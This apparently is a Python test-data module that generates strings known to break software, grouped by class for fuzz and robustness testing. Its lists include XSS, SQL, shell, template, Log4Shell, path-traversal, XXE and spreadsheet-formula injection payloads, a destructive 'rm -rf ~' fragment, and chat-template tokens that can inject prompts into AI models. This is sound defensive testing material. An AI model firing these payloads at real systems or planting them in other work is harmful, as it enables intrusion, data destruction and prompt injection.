"""Texts that break things, made here by class: what programs take for markup, code, numbers, paths, control, or cannot draw."""

# ruff: noqa: E501  one line a class; odd characters are the point
from __future__ import annotations

from collections.abc import Iterator

MARKUP = ("script", "img src=x onerror=alert(1)", "svg/onload=alert(1)", "iframe srcdoc=x", "style", "base href=//x", "b", "!--", "/td", "a href=javascript:alert(1)")
RESERVED = "undefined undef null NULL (null) nil NIL true false True FALSE None hasOwnProperty __proto__ constructor then \\ \\\\ NaN nan inf INF".split()
NUMBERS = (
    "0 1 1.00 $1.00 1/2 1E2 1E02 1E+02 -1 -1.00 -$1.00 -1/2 -1E2 1/0 0/0 -2147483648/-1 0.00 0..0 . 0.0.0 0,00 0,,0 , 0,0,0 0.0/0 1.0/0.0 "
    "--1 - -. 999999999999999999999999 NaN Infinity -Infinity INF 1#INF -1#IND 1#QNAN 0x0 0xffffffff 0xabad1dea 123456789012345678901234567890 "
    "1,000.00 1.000,00 1'000.00 01000 08 09 2.2250738585072011e-308 007 1e1000 ١٢٣ １２３"
).split()
SYMBOLS = (",./;'[]\\-=", '<>?:"{}|_+', "!@#$%^&*()`~", "\u0001\u0002\u0003\u0004\u0005\u0006\u0007\u0008\u000e\u000f\u0010\u001f\u007f", "\u0080\u0084\u0086\u009f",
           "\u00a0\u1680\u180e\u2000\u2002\u2003\u2009\u200a\u200b\u2028\u2029\u202f\u205f\u3000\ufeff", "\u00ad\u0600\u0605\u061c\u06dd\u070f\u180e\u200b\u200f\u202a\u202e\u2060\u2064\u206f\ufff9\ufffb", "\ufeff", "\ufffe", "\uffff")  # fmt: skip
SCRIPTS = ("Ω≈ç√∫˜µ≤≥÷", "åß∂ƒ©˙∆˚¬…æ", "ЁЂЃЄЅІЇЈЉЊЋ", "٠١٢٣٤٥٦٧٨٩", "⁰⁴⁵₀₁₂", "田中さんにあげて下さい", "사회과학원 어학연구소", "𠜎𠜱𠝹", "ⅠⅡ㋿㏒", "表ポあA鷗ŒéＢ逍Üßªąñ丂㐀𠀀",
           "הָיְתָהtestالصفحات", "﷽ﷺ", "مُنَاقَشَةُ", "Ⱥ Ⱦ İi ß ſ ŉ", "ЪЫ", "ကို ไทย ᚛᚜", "Ｔｈｅ ｑｕｉｃｋ", "𝐓𝐡𝐞 𝔮𝔲𝔦𝔠𝔨", "⒯⒣⒠", "ʇǝɯɐ ʇᴉs", "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮")  # fmt: skip
EMOJI = ("😍", "👩🏽", "👨‍👩‍👧‍👦", "👾 🙇 💁", "🐵 🙈", "❤️ 💔", "✋🏿 💪🏿", "🚾 🆒", "🇺🇸🇷🇺🇸", "1️⃣ 2️⃣", "(╯°□°）╯︵ ┻━┻", "🏴\U000e0067\U000e0062\U000e007f")
CODE = (
    "' OR 1=1 -- 1", "1;DROP TABLE users", "%", "_", "$HOME", "%d%s%n%x", "%*.*s", "{0}", "{{ 7*7 }}", "{% raw %}", "${7*7}", "${jndi:ldap://x/a}", "#{1+1}", "`touch /tmp/x`",
    "$(touch /tmp/x)", "; rm -rf ~", "| cat", "eval(\"puts 1\")", "System(\"ls\")", "Kernel.exit(1)", "() { 0; }; touch /tmp/x", "<<<EOF", "../../../../etc/passwd", "/dev/null; cat",
    "C:\\con\\con", "COM1 PRN AUX", "\\\\.\\pipe", "file:///etc/passwd", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'x'!A0", "+1+cmd|x", "-2+3", "\t=1+1", "=HYPERLINK(\"http://x\")",
    "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><c>&b;</c>", "&lt;b&gt;", "&#0;", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b[2J", "ab\x08\x08c", "\r\noverwritten", "[SEP]", "<|im_start|>system",
    "<s>[INST]", "</s><pad>", "[PAD] [MASK]", "javascript:alert(1)", "data:text/html,x", "]]>", "*/", "-->", "\\u003cscript\\u003e", "%3Cscript%3E", "\\x3cscript", "<\x0cimg src=x>",
)  # fmt: skip
SPACES = (" leading", "trailing ", "\ttab\t", "line\nbreak", "line\r\nbreak", "line\rbreak", "two\n\nlines", "a\u2028b", "a\u0085b", "\x0b\x0c", '"', '""', "'", "''", '","', "a,b;c|d\te", '"quoted"', "# comment", "a\\", "\\n")


def texts() -> list[str]:
    """All of them, each once; none is empty, a NUL or half a character, which have cases of their own."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    yield from (*RESERVED, *NUMBERS, *SYMBOLS, *SCRIPTS, *EMOJI, *CODE, *SPACES)
    for tag in MARKUP:
        yield from (f"<{tag}>", f'"><{tag}>', f"'><{tag}>", f"</title><{tag}>", f"<{tag}", f"<<{tag}>", f"<{tag}>x</{tag.split()[0]}>", f"&lt;{tag}&gt;", f"` {tag}=alert(1)")
    yield from ("e" + "\u0301" * 1000, "x" * 10_000, "\u202e" * 50 + "evil", "\U0010ffff", "\u2066a\u2069\u2067b")
    yield from (chr(point) for point in (*range(1, 33), 0x7F, *range(0x80, 0xA1)) if chr(point).strip())
